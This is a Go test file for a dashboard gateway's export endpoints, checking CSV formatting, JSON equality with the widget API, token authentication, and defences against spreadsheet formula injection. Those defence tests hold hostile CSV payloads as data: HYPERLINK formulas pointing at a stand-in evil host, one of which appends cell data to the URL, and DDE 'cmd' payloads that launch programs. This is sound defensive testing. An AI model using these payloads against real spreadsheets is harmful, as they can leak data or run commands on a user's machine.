package gateway

// The export endpoints (docs/protocol.md §4.1) against a real bus: what
// they carry equals /api/widgets/{widget}, CSV is RFC 4180 and cannot run
// formulas in a spreadsheet, and they sit behind the same token as the page.

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"
)

func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	if body != "" && !strings.HasSuffix(body, "\r\n") {
		t.Fatalf("CSV must end its records with CRLF (RFC 4180): %q", body)
	}
	r := csv.NewReader(strings.NewReader(body))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, body)
	}
	return recs
}

func TestExportCSVOfEachWidgetTypeCarriesItsState(t *testing.T) {
	e := startEnv(t, Config{})
	e.publish(t, "sv.rev.config", `{"type":"stat","title":"Revenue"}`)
	e.publish(t, "sv.rev.data", `{"value":10,"ts":1000}`)
	e.publish(t, "sv.rev.data", `{"value":12.5,"ts":2000}`)
	e.publish(t, "sv.lat.data", `{"points":[[1000,3.5],[2000,null]]}`)
	e.publish(t, "sv.lat.data", `{"series":"p99","points":[[1000,9]]}`)
	e.publish(t, "sv.regions.config", `{"type":"table","columns":["region","revenue","note"]}`)
	e.publishAndWait(t, "sv.regions.data", `{"ops":[
		{"key":"eu","row":{"region":"eu","revenue":-10,"note":"a, \"quoted\"\nline"}},
		{"key":"us","row":{"region":"us","revenue":20,"extra":true}}]}`)

	cases := []struct {
		id   string
		want [][]string
	}{
		{"rev", [][]string{{"value", "prev", "ts"}, {"12.5", "10", "2000"}}},
		{"lat", [][]string{{"series", "x", "y"}, {"", "1000", "3.5"}, {"", "2000", ""}, {"p99", "1000", "9"}}},
		{"regions", [][]string{{"key", "region", "revenue", "note"},
			{"eu", "eu", "-10", "a, \"quoted\"\nline"}, {"us", "us", "20", ""}}},
	}
	for _, c := range cases {
		t.Run(c.id, func(t *testing.T) {
			resp, body := do(t, http.DefaultClient, "GET", e.url("/api/widgets/"+c.id+"/data.csv"), nil)
			if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
				t.Fatalf("status %d, Content-Type %q: %s", resp.StatusCode, resp.Header.Get("Content-Type"), body)
			}
			if cd := resp.Header.Get("Content-Disposition"); cd != `attachment; filename="`+c.id+`.csv"` {
				t.Errorf("Content-Disposition %q", cd)
			}
			got := readCSV(t, body)
			if len(got) != len(c.want) {
				t.Fatalf("records:\n got %q\nwant %q", got, c.want)
			}
			for i := range got {
				if strings.Join(got[i], "\x00") != strings.Join(c.want[i], "\x00") {
					t.Errorf("record %d: got %q, want %q", i, got[i], c.want[i])
				}
			}
		})
	}
}

func TestExportCSVNeutralisesFormulaInjection(t *testing.T) {
	e := startEnv(t, Config{})
	corpus := []string{
		`=HYPERLINK("http://evil.example","x")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A2)`,
		"\t=1+1", "\r=1+1", `=cmd|' /C notepad'!'A1'`,
	}
	ops := make([]string, 0, len(corpus))
	for i, s := range corpus {
		b, _ := json.Marshal(map[string]any{"key": "k" + string(rune('a'+i)), "row": map[string]any{"v": s, s: 1}})
		ops = append(ops, string(b))
	}
	e.publishAndWait(t, "sv.evil.data", `{"ops":[`+strings.Join(ops, ",")+`]}`)
	_, body := do(t, http.DefaultClient, "GET", e.url("/api/widgets/evil/data.csv"), nil)
	recs := readCSV(t, body)
	cells := 0
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would be evaluated by a spreadsheet", cell)
			}
			if strings.HasPrefix(cell, "'") {
				cells++
			}
		}
	}
	// Every payload appears twice: as a value and as a column name.
	if cells != 2*len(corpus) {
		t.Errorf("%d neutralised cells, want %d:\n%s", cells, 2*len(corpus), body)
	}
	for _, s := range corpus {
		if !strings.Contains(body, "'"+strings.ReplaceAll(s, `"`, `""`)) {
			t.Errorf("payload %q is not kept whole behind its apostrophe", s)
		}
	}
}

// A spreadsheet set to a semicolon list separator (Excel in most of Europe)
// splits a CSV line at every ';', quoted or not, so a text cell "x;=f()"
// puts "=f()" at the start of a cell of its own, which it evaluates.
func TestExportCSVNeutralisesAFormulaAfterASemicolon(t *testing.T) {
	e := startEnv(t, Config{})
	cases := []struct{ in, want string }{
		{`ok;=HYPERLINK("http://evil.example/?"&A1,"x")`, `ok;'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"a;+1;-2;@SUM(A1);\t=1", "a;'+1;'-2;'@SUM(A1);'\t=1"},
		{"=1;=2", "'=1;'=2"},
		{"a; =1", "a; =1"}, // a cell starting with a space is text
		{"a;b;", "a;b;"},
	}
	ops := make([]string, 0, len(cases))
	for i, c := range cases {
		b, _ := json.Marshal(map[string]any{"key": "k" + string(rune('a'+i)), "row": map[string]any{"v": c.in}})
		ops = append(ops, string(b))
	}
	e.publish(t, "sv.semi.config", `{"type":"table","columns":["v"]}`)
	e.publishAndWait(t, "sv.semi.data", `{"ops":[`+strings.Join(ops, ",")+`]}`)
	_, body := do(t, http.DefaultClient, "GET", e.url("/api/widgets/semi/data.csv"), nil)
	recs := readCSV(t, body)
	if len(recs) != 1+len(cases) {
		t.Fatalf("%d records, want %d:\n%s", len(recs), 1+len(cases), body)
	}
	for i, c := range cases {
		if got := recs[1+i][1]; got != c.want {
			t.Errorf("cell %q exported as %q, want %q", c.in, got, c.want)
		}
	}
}

func TestExportJSONEqualsTheWidgetAPI(t *testing.T) {
	e := startEnv(t, Config{})
	e.publish(t, "sv.t.data", `{"key":"a","row":{"n":1}}`)
	e.publishAndWait(t, "sv.c.data", `{"x":1,"y":2}`)
	for _, id := range []string{"t", "c"} {
		_, api := do(t, http.DefaultClient, "GET", e.url("/api/widgets/"+id), nil)
		resp, exp := do(t, http.DefaultClient, "GET", e.url("/api/widgets/"+id+"/data.json"), nil)
		if resp.StatusCode != 200 || !jsonEqual(t, []byte(api), []byte(exp)) {
			t.Errorf("%s: data.json %d %s, /api/widgets says %s", id, resp.StatusCode, exp, api)
		}
	}
	var dash struct {
		Title   string `json:"title"`
		Seq     uint64 `json:"seq"`
		Widgets []struct {
			ID    string          `json:"id"`
			State json.RawMessage `json:"state"`
		} `json:"widgets"`
	}
	if code := getJSON(t, e.url("/api/dashboard.json"), &dash); code != 200 || len(dash.Widgets) != 2 {
		t.Fatalf("dashboard.json: %d, %+v", code, dash)
	}
	for _, w := range dash.Widgets {
		if !jsonEqual(t, w.State, e.widgetState(t, w.ID)) {
			t.Errorf("dashboard.json's %s state %s differs from /api/widgets", w.ID, w.State)
		}
	}
	if code, _, _ := get(t, e.url("/api/widgets/nope/data.csv")); code != http.StatusNotFound {
		t.Errorf("unknown widget's CSV: %d, want 404", code)
	}
}

func TestExportNeedsTheTokenLikeThePage(t *testing.T) {
	e := startAuthEnv(t, Config{})
	for _, path := range []string{"/api/widgets/revenue/data.csv", "/api/widgets/revenue/data.json", "/api/dashboard.json"} {
		resp, body := do(t, noRedirect, "GET", e.url(path), nil)
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("%s without credentials: %d, want 401", path, resp.StatusCode)
		}
		for _, s := range secretData {
			if strings.Contains(body, s) {
				t.Errorf("%s without credentials leaks %q", path, s)
			}
		}
		resp, body = do(t, noRedirect, "GET", e.url(path), nil, "Authorization: Bearer "+testToken)
		if resp.StatusCode != 200 || !strings.Contains(body, "4242.5") {
			t.Errorf("%s with the token: %d %s", path, resp.StatusCode, body)
		}
	}
	// A signed embed link grants its widget's page and socket, not its data files.
	q, err := EmbedPath(testToken, "revenue", time.Now().Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	_, query, _ := strings.Cut(q, "?")
	if resp, _ := do(t, noRedirect, "GET", e.url("/api/widgets/revenue/data.csv?"+query), nil); resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("embed link on data.csv: %d, want 401", resp.StatusCode)
	}
}
